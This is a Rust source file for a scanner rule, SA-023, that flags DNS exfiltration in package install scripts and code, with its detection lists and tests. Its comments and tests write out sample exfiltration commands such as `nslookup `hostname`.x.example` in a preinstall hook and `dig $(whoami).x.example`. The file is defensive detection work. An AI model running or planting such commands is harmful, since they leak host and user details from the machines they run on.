//! `SA-023` DNS exfiltration (threat). Finds host data sent as a DNS name: `nslookup
//! $(hostname).x.example`, `dig $(whoami).…`, or code resolving a name built at run time
//! beside host details.
//!
//! Why: a DNS query leaves through firewalls that stop HTTP; dependency-confusion probes use
//! it to report where they ran. Example: `"preinstall": "nslookup \`hostname\`.x.example"`.
//! Known false positives: none known for lookups of names built from host data.

use super::{Ctx, Hit, Kind, Rule, is_script};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule =
    Rule { id: "SA-023", name: "DNS exfiltration", kind: Kind::Threat, behaviour: Behaviour::Probe, weight: 8 };

const LOOKUPS: &[&str] = &["nslookup", "dig", "host", "ping", "resolve-dnsname"];
const HOST_DATA: &[&str] =
    &["hostname", "whoami", "$user", "%username%", "%computername%", "uname", "$(id", "`id", "pwd"];

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    // In code, looking up the host's own name is how distributed frameworks find their own
    // address (`gethostbyname(gethostname())`); a fingerprint sent from code is SA-101's.
    // A command line the code runs (`os.system("nslookup $(whoami).x.example")`) is a script's.
    let script = is_script(ctx.file);
    let command = |c: &&crate::facts::Call| script || c.is_command();
    for c in ctx.facts.calls.iter().filter(|c| LOOKUPS.contains(&c.name.as_str())).filter(command) {
        let arg = c.first.as_deref().unwrap_or("").to_ascii_lowercase();
        if HOST_DATA.iter().any(|h| arg.contains(h)) && (arg.contains('`') || arg.contains('$') || arg.contains('%')) {
            out.push(Hit::new(&RULE, c.line, format!("{} {}", c.name, arg.chars().take(100).collect::<String>())));
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn fires_on_host_data_in_names() {
        assert!(fired("package.json#scripts.preinstall", "nslookup `hostname`.x.example", INSTALL).contains(&"SA-023"));
        // A command line Python runs, assembled from a list.
        let py = "import subprocess\nsubprocess.run(['sh', '-c', 'dig $(whoami).x.example'])\n";
        assert!(fired("setup.py", py, INSTALL).contains(&"SA-023"));
    }

    #[test]
    fn near_misses() {
        assert!(!fired("a.sh", "nslookup example.org\n", LIBRARY).contains(&"SA-023"));
        assert!(
            !fired("a.js", "const dns = require('dns'); dns.lookup('registry.example.org', cb)", LIBRARY)
                .contains(&"SA-023")
        );
    }
}
